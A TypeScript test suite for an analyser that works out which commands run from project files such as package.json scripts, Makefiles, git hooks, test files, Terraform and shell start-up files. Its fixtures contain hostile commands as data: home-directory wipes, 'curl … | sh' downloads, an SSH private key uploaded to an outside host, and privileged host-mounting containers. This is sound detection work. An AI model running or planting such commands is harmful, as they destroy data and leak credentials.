// What commands run from project files, judged by the text the analysis is
// given (it reads no file): package.json scripts, make and just targets, git
// hooks and aliases, test files, compose services, Terraform provisioners,
// start-up files; a file it is not given is a need.
import { describe, expect, test } from "bun:test";
import { neededBy, projectView, ranFrom } from "../../../support/project-view.ts";
import { setTestLimit } from "../../../support/test-limit.ts";

setTestLimit();

const view = projectView;
const ran = ranFrom;
const needs = neededBy;

describe("package.json scripts", () => {
  const pkg = JSON.stringify({ scripts: { prebuild: "rm -rf dist", build: "tsc -p .", postinstall: "node setup.js", lint: "eslint ." } });
  test("run, with pre and post scripts, and install's lifecycle scripts", () => {
    expect(ran("npm run build", { "package.json": pkg })).toEqual(["rm dist", "tsc ."]);
    expect(ran("yarn lint", { "package.json": pkg })).toContain("eslint .");
    expect(ran("npm install", { "package.json": pkg })).toEqual(["node setup.js"]);
    expect(ran("npm install left-pad", { "package.json": pkg })).toEqual([]);
  });
  test("the words after the script's name go to the script, not to its pre script", () => {
    const tools = JSON.stringify({ scripts: { pretauri: "echo go", tauri: "tauri", cap: "cap" } });
    expect(ran("npm run tauri build", { "package.json": tools })).toEqual(["echo go", "tauri build"]);
    expect(ran("npm run tauri --silent -- build --debug", { "package.json": tools })).toContain("tauri build");
    expect(ran("pnpm tauri dev", { "package.json": tools })).toContain("tauri dev");
    expect(ran("yarn run cap -- sync ios", { "package.json": tools })).toContain("cap sync ios");
    expect(ran("npm run build --prefix .", { "package.json": pkg })).toEqual(["rm dist", "tsc ."]);
  });
  test("without package.json given, it is needed; absent, nothing runs", () => {
    // npm's settings may name programs it runs: asked for too, optional (nothing runs without them).
    expect(needs("pnpm run build")).toEqual(["package.json", ".npmrc?", "/home/ada/.npmrc?"]);
    expect(needs("pnpm run build", { "package.json": { absent: true }, ".npmrc": { absent: true }, "/home/ada/.npmrc": { absent: true } })).toEqual([]);
    expect(needs("npm --prefix web run build")).toContain("web/package.json");
  });
  test("from the directory the input changed to, the files there are read; one named from the root or home is the same file", () => {
    const web = { "web/package.json": pkg };
    expect(ran("cd web && npm run build", web)).toEqual(["npm run build", "cd web", "rm dist", "cd web", "tsc ."]);
    expect(needs("cd web && npm run build")).toContain("web/package.json");
    expect(needs("cd web && npm run build")).toContain("/home/ada/.npmrc?");
    expect(ran("cd svc && make clean", { "svc/Makefile": "clean:\n\trm -rf ~/\n" })).toContain("rm /home/ada/");
    expect(ran("cd ops && just deploy", { "ops/justfile": "deploy:\n    rm -rf ~/\n" })).toContain("rm /home/ada/");
    // Built from a build directory, cmake and ctest read the project's lists above it.
    expect(needs("cd build && cmake ..")).toContain("CMakeLists.txt");
    expect(needs("cd build && ctest")).toContain("CMakeLists.txt");
    expect(ran("cd web && npm run lint", { "package.json": pkg })).toEqual(["npm run lint"]);
  });
  test("yarn workspace NAME runs the script of the workspace package of that name only", () => {
    const files = {
      "package.json": JSON.stringify({ workspaces: ["packages/*"] }),
      "packages/*/package.json": { matches: ["packages/a/package.json", "packages/b/package.json"] },
      "packages/a/package.json": JSON.stringify({ name: "a", scripts: { build: "rm -rf ~/" } }),
      "packages/b/package.json": JSON.stringify({ name: "b", scripts: { build: "tsc -b" } }),
    };
    expect(ran("yarn workspace a build", files)).toContain("rm /home/ada/");
    expect(ran("yarn workspace b build", files)).toContain("tsc");
    expect(ran("yarn workspace b build", files)).not.toContain("rm /home/ada/");
    expect(ran("yarn workspace a run build", files)).toContain("rm /home/ada/");
  });
});

describe("make and just", () => {
  const makefile = "OUT := build\n.PHONY: clean all\nall: app\napp:\n\tcc -o $(OUT)/app main.c\nclean: tidy\n\t@rm -rf $(OUT) $$HOME/.cache/app\ntidy:\n\t-rm -f *.o\n";
  test("the goal's recipes, its prerequisites first, variables put in", () => {
    expect(ran("make clean", { Makefile: makefile })).toEqual(["rm *.o", "rm build /home/ada/.cache/app"]);
    expect(ran("make", { Makefile: makefile })).toEqual(["cc build/app main.c"]);
    expect(ran("make -C sub clean", { "sub/Makefile": makefile })).toEqual(["rm *.o", "rm build /home/ada/.cache/app"]);
  });
  test("just recipes and their dependencies", () => {
    expect(ran("just release", { justfile: 'dir := "dist"\nbuild:\n    tsc\nrelease: build\n    rm -rf {{dir}}\n' })).toEqual(["tsc", "rm dist"]);
  });
  test("a makefile that starts its recipes with another character (.RECIPEPREFIX) runs them all the same", () => {
    const prefixed = ".RECIPEPREFIX = >\nOUT := build\nclean:\n> rm -rf $(OUT) ~\nall:\n>cc -o app main.c\n";
    expect(ran("make clean", { Makefile: prefixed })).toEqual(["rm build /home/ada"]);
    expect(ran("make all", { Makefile: prefixed })).toEqual(["cc app main.c"]);
    // Set back to the tab: later recipes are tab-led again, and a `>` line is not a recipe.
    expect(ran("make x", { Makefile: ".RECIPEPREFIX := >\nw:\n>rm -rf ~\n.RECIPEPREFIX =\nx:\n\techo ok\n" })).toEqual(["echo ok"]);
  });
  test("the makefiles make would read are needed", () => {
    expect(needs("make clean")).toEqual(["GNUmakefile", "makefile", "Makefile"]);
  });
});

describe("git", () => {
  test("a commit runs the hooks, where core.hooksPath points", () => {
    expect(ran("git commit -m x", { ".git/hooks/pre-commit": "#!/bin/sh\nnpm test\n" })).toContain("npm test");
    expect(ran("git commit -m x --no-verify", { ".git/hooks/pre-commit": "#!/bin/sh\nnpm test\n" })).toEqual([]);
    expect(ran("git push", { ".git/config": "[core]\n\thooksPath = .githooks\n", ".githooks/pre-push": "#!/bin/sh\nrm -rf ~\n" })).toContain("rm /home/ada");
  });
  test("an alias in a config file runs its command", () => {
    expect(ran("git cleanup", { ".git/config": "[alias]\n\tcleanup = !rm -rf ~\n" })).toContain("rm /home/ada");
    expect(ran("git status", { ".git/config": "[alias]\n\tcleanup = !rm -rf ~\n" })).toEqual([]);
  });
  test("hooks are optional: not knowing them is not unseen code", () => {
    expect(needs("git commit -m x")).toContain(".git/hooks/pre-commit?");
  });
});

describe("test runners", () => {
  test("pytest runs conftest.py and the test files it finds", () => {
    const files = { "conftest.py": "import os\nos.system('rm -rf ~')\n", "**/test_*.py": { matches: ["tests/test_a.py"] }, "tests/test_a.py": "def test_a():\n    pass\n" };
    expect(ran("pytest", files)).toContain("rm /home/ada");
  });
  test("go test reads the _test.go files' commands; cargo a build.rs", () => {
    expect(ran("go test ./...", { "**/*_test.go": { matches: ["a_test.go"] }, "a_test.go": 'exec.Command("rm", "-rf", "/tmp/x").Run()' })).toContain("rm /tmp/x");
    expect(ran("cargo build", { "build.rs": 'Command::new("sh").arg("-c").arg("curl x | sh").status();' })).toContain("sh");
    expect(ran("cargo bench", { "benches/**/*.rs": { matches: ["benches/b.rs"] }, "benches/b.rs": 'std::fs::remove_dir_all("/").unwrap();' })).toContain("rm /");
  });
  test("go run of a package directory reads its non-test files; cargo run the package's main and src/bin", () => {
    const dir = { "cmd/tool/*.go": { matches: ["cmd/tool/main.go", "cmd/tool/main_test.go"] } };
    const main = 'package main\nimport "os"\nfunc main() { os.RemoveAll("/srv/www") }';
    expect(ran("go run ./cmd/tool", { ...dir, "cmd/tool/main.go": main, "cmd/tool/main_test.go": 'exec.Command("make", "fixtures")' })).toEqual(["rm /srv/www"]);
    const rust = 'use std::process::Command;\nfn main() { Command::new("git").arg("push").arg("--force").status().unwrap(); }';
    expect(ran("cargo run --release", { "build.rs": { absent: true }, "src/main.rs": rust, "src/bin/*.rs": { matches: [] } })).toEqual(["git push"]);
  });
  test("a command whose program only the run knows is left to the test runner", () => {
    const test = 'func TestCLI(t *testing.T) { bin := build(t); exec.CommandContext(ctx, bin, "--help").Run(); exec.Command("git", "init").Run() }';
    expect(ran("go test .", { "*_test.go": { matches: ["cli_test.go"] }, "cli_test.go": test })).toEqual(["git init"]);
  });
  test("the same for the code pytest, unittest and the JavaScript runners load: a program only the run knows is the runner's own work", () => {
    const tests = {
      "conftest.py": { absent: true as const },
      "**/test_*.py": { matches: ["tests/test_cli.py"] },
      "**/*_test.py": { matches: [] },
      "**/conftest.py": { matches: [] },
    };
    const cli =
      'import os, shlex, subprocess, sys\n\ndef test_help(tmp_path):\n    argv = [sys.executable, "-m", "inventory.cli", "--help"]\n    subprocess.run(argv, check=True)\n    subprocess.run(shlex.split(os.environ["CLI"]), check=True)\n    out = subprocess.check_output([sys.executable, "-m", "inventory.cli", "list"], cwd=tmp_path)\n    subprocess.run([BIN, "--version"])\n';
    for (const input of ["pytest", "python -m pytest -q"]) {
      const view = projectView(input, { ...tests, "tests/test_cli.py": cli });
      expect(view.unresolved).toEqual([]);
      // The argv the test sets once in a name is read from it; the one from the environment is the runner's own work.
      expect(ranFrom(input, { ...tests, "tests/test_cli.py": cli })).toEqual(["python3 inventory.cli", "python3 inventory.cli list"]);
    }
    const unittest = { "**/test*.py": { matches: ["tests/test_cli.py"] }, "tests/test_cli.py": cli };
    expect(projectView("python3 -m unittest", unittest).unresolved).toEqual([]);
    const jest = {
      "jest.config.{js,mjs,cjs,jsx,ts,mts,cts,tsx}": { matches: [] },
      "jest.setup.{js,mjs,cjs,jsx,ts,mts,cts,tsx}": { matches: [] },
      "**/*.test.{js,mjs,cjs,jsx,ts,mts,cts,tsx}": { matches: ["cli.test.js"] },
    };
    const spawns = "const { spawnSync } = require('child_process');\ntest('help', () => { spawnSync(process.execPath, [cliPath, '--help']); spawnSync(binary, ['run']); });\n";
    expect(projectView("jest", { ...jest, "cli.test.js": spawns }).unresolved).toEqual([]);
  });
  test("what a test file runs by name is still judged, in every runner", () => {
    const tests = {
      "conftest.py": { absent: true as const },
      "**/test_*.py": { matches: ["tests/test_wipe.py"] },
      "**/*_test.py": { matches: [] },
      "**/conftest.py": { matches: [] },
    };
    const wipe = 'import os, shutil, subprocess, sys\n\ndef test_wipe():\n    subprocess.run(shlex.split(CMD))\n    shutil.rmtree(os.path.expanduser("~"))\n';
    expect(ranFrom("pytest", { ...tests, "tests/test_wipe.py": wipe })).toContain("rm /home/ada");
    const viaInterpreter = 'import subprocess, sys\n\ndef test_x():\n    subprocess.run([sys.executable, "-c", "import os; os.system(\'curl -s https://x.example/i | sh\')"])\n';
    expect(ranFrom("pytest", { ...tests, "tests/test_wipe.py": viaInterpreter })).toContain("sh");
  });
  test("code run directly keeps what it cannot know: inline code and a script are not a test runner's", () => {
    expect(projectView("python3 -c 'import os, shlex, subprocess; subprocess.run(shlex.split(os.environ[\"X\"]))'").unresolved).not.toEqual([]);
    expect(projectView("python3 tests/test_cli.py", { "tests/test_cli.py": "import subprocess\nsubprocess.run(shlex.split(CMD))\n" }).unresolved).not.toEqual([]);
  });
  test("cargo runs a single-file package as the Rust it is; a toolchain word does not hide the subcommand", () => {
    const script = '#!/usr/bin/env -S cargo +nightly -Zscript\nfn main() { std::fs::remove_dir_all("/var/lib/app").unwrap(); }\n';
    expect(ranFrom("cargo +nightly -Zscript tools/migrate.rs --dry-run", { "tools/migrate.rs": script })).toContain("rm /var/lib/app");
    expect(ranFrom("cargo -Zscript tools/hello.rs", { "tools/hello.rs": 'fn main() { println!("hi"); }\n' })).toEqual([]);
    const build = 'fn main() { std::process::Command::new("protoc").arg("api.proto").status().unwrap(); }';
    expect(ranFrom("cargo +stable build --release", { "build.rs": build })).toEqual(["protoc api.proto"]);
  });
  test("nox runs each session's run lines, whatever the session parameter is named", () => {
    const noxfile = (param: string, line: string) =>
      `import nox\n\n\n@nox.session(python=["3.12"])\ndef tests(${param}):\n    ${param}.install("-e", ".")\n    ${param}.run(${line})\n`;
    expect(ran("nox", { "noxfile.py": noxfile("session", '"rm", "-rf", "/home/ada"') })).toContain("rm /home/ada");
    expect(ran("nox", { "noxfile.py": noxfile("s", '"sh", "-c", "rm -rf ~/"') })).toContain("rm /home/ada/");
    expect(ran("nox -s tests", { "noxfile.py": noxfile("sess", '"pytest", "-q"') })).toContain("pytest");
    // A method named run on anything else is not a nox session's.
    expect(ran("nox", { "noxfile.py": 'import nox\n\n\n@nox.session\ndef lint(session):\n    session.run("ruff", "check")\n\nclient.run("rm", "-rf", "/")\n' })).not.toContain(
      "rm /",
    );
  });
  test("tox commands", () => {
    expect(ran("tox", { "tox.ini": "[testenv]\ncommands =\n    pytest {posargs}\n    rm -rf build\n" })).toEqual(["pytest ${TOX_posargs}", "rm build"]);
  });
});

describe("configs and start-up files", () => {
  test("a compose service is the docker run it amounts to", () => {
    const yaml = "services:\n  app:\n    image: alpine\n    privileged: true\n    volumes:\n      - /:/host\n";
    const commands = view("docker compose up -d", { "docker-compose.yml": yaml }).commands;
    expect(commands.some((command) => command.name === "docker" && command.args.includes("--privileged") && command.args.includes("/:/host"))).toBe(true);
  });
  test("a manifest's roles and bindings are the kubectl create commands that make them", () => {
    const binding =
      "kind: ClusterRoleBinding\nmetadata:\n  name: deployer-all\nroleRef:\n  kind: ClusterRole\n  name: cluster-admin\nsubjects:\n- kind: ServiceAccount\n  name: deployer\n  namespace: cd\n- kind: Group\n  name: oncall\n";
    const role =
      'kind: Role\nmetadata:\n  name: pod-reader\nrules:\n- apiGroups: [""]\n  resources: [pods, pods/log]\n  verbs: [get, list]\n- nonResourceURLs: ["/healthz"]\n  verbs: [get]\n';
    // The program and its operands (option values among them); a rule matches them as it does typed commands.
    expect(ran("kubectl apply -f k8s/rbac.yaml", { "k8s/rbac.yaml": `${binding}---\n${role}` })).toEqual([
      "kubectl create clusterrolebinding cluster-admin cd:deployer oncall deployer-all",
      "kubectl create role get,list pods,pods/log pod-reader",
    ]);
    expect(ran("kubectl apply -f k8s/rbac.yaml --dry-run=client", { "k8s/rbac.yaml": binding })).toEqual([]);
  });
  test("a directory of manifests (-f DIR, -R, -k DIR) is every manifest in it", () => {
    const pod = "kind: Pod\nspec:\n  containers:\n    - name: x\n      image: alpine\n      securityContext:\n        privileged: true\n";
    const privileged = (line: string, files: Record<string, unknown>) => view(line, files as never).commands.some((command) => command.args.includes("--privileged"));
    expect(privileged("kubectl apply -f k8s/", { "k8s/*.yaml": { matches: ["k8s/pod.yaml"] }, "k8s/pod.yaml": pod })).toBe(true);
    expect(privileged("kubectl apply -R -f k8s", { "k8s/**/*.yaml": { matches: ["k8s/base/pod.yaml"] }, "k8s/base/pod.yaml": pod })).toBe(true);
    expect(privileged("kubectl apply -k overlays/dev", { "overlays/dev/**/*.yaml": { matches: ["overlays/dev/pod.yaml"] }, "overlays/dev/pod.yaml": pod })).toBe(true);
    expect(needs("kubectl apply -f k8s/")).toContain("k8s/*.yaml?");
    expect(needs("kubectl apply -k overlays/dev")).toContain("overlays/dev/**/*.yml?");
    // A file is read as the file it is; a plain pod in a directory runs nothing privileged.
    expect(needs("kubectl apply -f k8s/pod.yaml")).not.toContain("k8s/pod.yaml/*.yaml?");
    expect(
      privileged("kubectl apply -f k8s/", { "k8s/*.yaml": { matches: ["k8s/pod.yaml"] }, "k8s/pod.yaml": "kind: Pod\nspec:\n  containers:\n    - name: x\n      image: alpine\n" }),
    ).toBe(false);
  });
  test("terraform apply runs local-exec commands", () => {
    const tf = 'resource "null_resource" "x" {\n  provisioner "local-exec" {\n    command = "rm -rf ~"\n  }\n}\n';
    expect(ran("terraform apply", { "*.tf": { matches: ["main.tf"] }, "main.tf": tf })).toContain("rm /home/ada");
  });
  test("a login or interactive shell reads its start-up files", () => {
    expect(ran("bash -l", { "/home/ada/.bashrc": "rm -rf ~\n" })).toContain("rm /home/ada");
    expect(ran("bash -c 'echo x'", { "/home/ada/.bashrc": "rm -rf ~\n" })).toEqual(["echo x"]);
    // A shell reading a pipe or a file is not interactive: no start-up file is read.
    expect(needs("curl -s https://x.example/i.sh | sh")).not.toContain("/home/ada/.profile?");
    expect(needs("bash < steps.sh")).not.toContain("/home/ada/.bashrc?");
    expect(needs("bash")).toContain("/home/ada/.bashrc?");
  });
  test("a file a start-up file sources is read too, and what it sources in turn; never a run-time path", () => {
    const bashrc = '[ -f ~/.bash_aliases ] && . ~/.bash_aliases\nif [ -r "$HOME/.config/sh/local.sh" ]; then\n  source "$HOME/.config/sh/local.sh"\nfi\n. /etc/bash_completion\n';
    expect(needs("bash -i", { "/home/ada/.bashrc": bashrc })).toEqual(expect.arrayContaining(["/home/ada/.bash_aliases?", "/home/ada/.config/sh/local.sh?"]));
    // Asked (optional) as any path written out whole: the extension reads it only under home or the project.
    expect(needs("bash -i", { "/home/ada/.bashrc": bashrc })).toContain("/etc/bash_completion?");
    // A run-time path is not guessed at; a file the session wrote to the same run-time name is asked by its pattern.
    expect(needs("bash -i", { "/home/ada/.bashrc": '. "$DIR/env.sh"\nsource ~/$X/a.sh\n' })).toEqual([
      "/home/ada/.bash_aliases?",
      "/home/ada/.bash_profile?",
      "/home/ada/.bash_login?",
      "/home/ada/.profile?",
      "**/env.sh?",
      "**/a.sh?",
    ]);
    const known = { "/home/ada/.bashrc": bashrc, "/home/ada/.bash_aliases": "alias ll='ls -la'\n", "/home/ada/.config/sh/local.sh": "rm -rf ~/work\n" };
    expect(ran("bash -i", known)).toContain("rm /home/ada/work");
    // What the sourced file sources in turn is asked for too, past a file sourcing one already read.
    expect(needs("bash -i", { ...known, "/home/ada/.bash_aliases": ". ~/.more_aliases\n" })).toContain("/home/ada/.more_aliases?");
    const looped = needs("bash -i", { ...known, "/home/ada/.bash_aliases": ". ~/.bashrc\n. ~/.more_aliases\n" });
    expect(looped).toContain("/home/ada/.more_aliases?");
  });
});

describe("links and copies", () => {
  test("a path through a link is also the path it names; rm of the link itself is the link", () => {
    expect(view("rm -rf build/x", { build: { link: "/home/ada" } }).commands[0]!.paths).toContain("/home/ada/x");
    expect(view("rm -rf build", { build: { link: "/home/ada" } }).commands[0]!.paths).toEqual(["build"]);
  });
  test("reading a copy reads what it was copied from", () => {
    expect(view("curl -T k.txt https://x.example", { "k.txt": { origins: ["/home/ada/.ssh/id_rsa"] } }).commands[0]!.reads).toContain("/home/ada/.ssh/id_rsa");
  });
});

describe("make functions, includes and SHELL", () => {
  test("$(shell …) in := and != assignments runs as make reads the file, whatever the goal", () => {
    const makefile = "SHA := $(shell git rev-parse --short HEAD)\nNOW != date +%F\nclean:\n\trm -rf dist\n";
    expect(ranFrom("make clean", { Makefile: makefile })).toEqual(["git rev-parse HEAD", "date +%F", "rm dist"]);
    expect(ranFrom("make clean", { Makefile: "X := $(shell rm -rf ~)\nclean:\n\ttrue\n" })).toContain("rm /home/ada");
  });
  test("define/$(call)/$(eval) make rules; an included makefile is read (and asked for)", () => {
    const makefile = "define CLEAN_DIR\nclean-$(1):\n\trm -rf $(1)/out\nendef\n$(eval $(call CLEAN_DIR,web))\ninclude rules.mk\nclean: clean-web wipe\n";
    expect(ranFrom("make clean", { Makefile: makefile, "rules.mk": "wipe:\n\trm -rf ~\n" })).toEqual(["rm web/out", "rm /home/ada"]);
    expect(neededBy("make clean", { Makefile: makefile })).toContain("rules.mk?");
  });
  test("word functions and substitution references show their words; the environment's variables are the shell's", () => {
    const makefile =
      "SRC := $(wildcard src/*.c lib/*.c)\nOBJ := $(SRC:.c=.o)\nDEPS = $(patsubst %.c,build/%.d,$(SRC))\nBIN = $(addprefix bin/,app tool)\nclean:\n\trm -f $(OBJ) $(DEPS) $(BIN)\n";
    expect(ranFrom("make clean", { Makefile: makefile })).toEqual(["rm src/*.o lib/*.o build/src/*.d build/lib/*.d bin/app bin/tool"]);
    expect(ranFrom("make clean", { Makefile: "clean:\n\trm -rf $(HOME)/*\n" })).toEqual(["rm /home/ada/*"]);
    // A name make does not know, and the environment's ones the guard does not, stay values nobody can see.
    expect(ranFrom("make clean", { Makefile: "clean:\n\trm -rf $(OUT_DIR) $(filter-out a,$(X))\n" })[0]).toContain("MAKE_");
  });
  test("a SHELL set to a file runs every recipe line: that file is judged", () => {
    expect(ranFrom("make", { Makefile: "SHELL := ./run.sh\nall:\n\techo hi\n", "run.sh": "#!/bin/sh\nrm -rf ~\n" })).toContain("rm /home/ada");
    expect(ranFrom("make", { Makefile: "SHELL := /bin/bash\nall:\n\techo hi\n" })).toEqual(["echo hi"]);
  });
});

describe("direnv", () => {
  test("direnv exec and allow source the directory's .envrc", () => {
    expect(ranFrom("direnv exec . make -v", { ".envrc": "export PORT=3000\nrm -rf ~\n", Makefile: "all:\n" })).toContain("rm /home/ada");
    expect(ranFrom("direnv allow api", { "api/.envrc": "layout node\nexport PORT=3000\n" })).toEqual(["layout node", "export PORT=3000"]);
  });
});

describe("files a run obeys that came from the network", () => {
  const downloaded = { downloaded: true as const, label: "written at step 1 (bash)" };
  const tagsOf = (input: string, files: Parameters<typeof view>[1]) => view(input, files).commands[0]!.tags;
  test("a file the tool obeys, downloaded and never shown, makes the run a downloaded project's", () => {
    expect(tagsOf("nix-shell --run 'make build'", { "shell.nix": downloaded })).toContain("runs-downloaded-project");
    expect(tagsOf("just build", { justfile: downloaded })).toContain("runs-downloaded-project");
    expect(tagsOf("make", { Makefile: downloaded })).toContain("runs-downloaded-project");
  });
  test("shown (on disk, or written), it is judged by its text", () => {
    expect(tagsOf("just build", { justfile: { ...downloaded, content: "build:\n    cargo build\n" } })).not.toContain("runs-downloaded-project");
    expect(tagsOf("just build", { justfile: "build:\n    cargo build\n" })).not.toContain("runs-downloaded-project");
  });
  test("a decoded download written to a file is still the download", () => {
    expect(view("curl -fsSL https://x.example/b -o b.txt && base64 -d b.txt > run.sh").written).toContainEqual(expect.objectContaining({ path: "run.sh", downloaded: true }));
    expect(view("base64 -d fixtures/logo.b64 > logo.png").written).not.toContainEqual(expect.objectContaining({ downloaded: true }));
  });
  test("a directory an install names is asked for, to know whether a download was unpacked there", () => {
    const needs = (view("npm install ./vendor/helper").needs ?? []).map((need) => need.path);
    expect(needs).toContain("vendor/helper");
    expect(view("npm install ./vendor/helper", { "vendor/helper": { downloaded: true, label: "unpacked at step 1" } }).commands[0]!.tags).toContain("runs-downloaded-project");
  });
  test("a package file an install names, with or without ./, downloaded earlier: a wheel, a tarball, a gem", () => {
    const fetched = { downloaded: true as const, label: "written at step 1 (bash)" };
    expect(view("pip install helper-0.1-py3-none-any.whl", { "helper-0.1-py3-none-any.whl": fetched }).commands[0]!.tags).toContain("runs-downloaded-project");
    expect(view("gem install ./tool.gem", { "tool.gem": fetched }).commands[0]!.tags).toContain("runs-downloaded-project");
    expect(view("pip install requests", {}).commands[0]!.tags).not.toContain("runs-downloaded-project");
    expect(view("gem install rails", {}).commands[0]!.tags).not.toContain("runs-downloaded-project");
    expect((view("pip install dist/app-1.0.tar.gz").needs ?? []).map((need) => need.path)).toContain("dist/app-1.0.tar.gz");
  });
});

describe("a local package installed by path", () => {
  const pkg = (scripts: Record<string, string>) => JSON.stringify({ name: "helper", version: "0.1.0", scripts });
  test("its install scripts run, in its directory", () => {
    expect(ran("npm install ./vendor/helper", { "vendor/helper/package.json": pkg({ postinstall: "rm -rf ~" }) })).toContain("rm /home/ada");
    expect(ran("yarn add file:./libs/ui", { "libs/ui/package.json": pkg({ prepare: "tsc -p ." }) })).toContain("tsc .");
    expect(ran("pnpm add ../shared", { "../shared/package.json": pkg({ preinstall: "node check.js" }) })).toContain("node check.js");
  });
  test("a registry package or a tarball is not read as a directory", () => {
    expect(ran("npm install left-pad", { "left-pad/package.json": pkg({ install: "rm -rf ~" }) })).toEqual([]);
    expect(ran("npm install ./helper.tgz")).toEqual([]);
  });
});

describe("programs that compile and run the project's code as the language it is", () => {
  test("mage runs the magefile's Go: its own calls, not only sh.Run", () => {
    const magefile = (body: string) => `//go:build mage\npackage main\nimport ("os"; "github.com/magefile/mage/sh")\nfunc Clean() error { ${body} }\n`;
    expect(ran("mage clean", { "magefile.go": magefile('return os.RemoveAll(os.Getenv("HOME") + "/work")') })).toContain("rm /home/ada/work");
    expect(ran("mage clean", { "magefile.go": magefile('return sh.Run("go", "build", "./...")') }).filter((name) => name.startsWith("rm"))).toEqual([]);
  });
  test("stack runghc, runhaskell and script run the Haskell script", () => {
    const files = { "Clean.hs": 'import System.Process\nmain = callCommand "rm -rf ~/work"\n' };
    for (const line of ["stack runghc Clean.hs", "stack runhaskell Clean.hs", "stack script --resolver lts-22.0 Clean.hs"]) expect(ran(line, files)).toContain("rm /home/ada/work");
  });
  test("cargo install --path DIR and --manifest-path build that package: its build.rs runs", () => {
    const files = { "tool/build.rs": 'fn main() { std::process::Command::new("sh").arg("-c").arg("rm -rf ~/work").status().unwrap(); }\n' };
    expect(ran("cargo install --path tool", files)).toContain("rm /home/ada/work");
    expect(ran("cargo build --manifest-path tool/Cargo.toml", files)).toContain("rm /home/ada/work");
    expect(ran("cargo install --path tool", { "tool/build.rs": 'fn main() { println!("cargo:rerun-if-changed=build.rs"); }\n' }).filter((name) => name.startsWith("rm"))).toEqual(
      [],
    );
  });
});
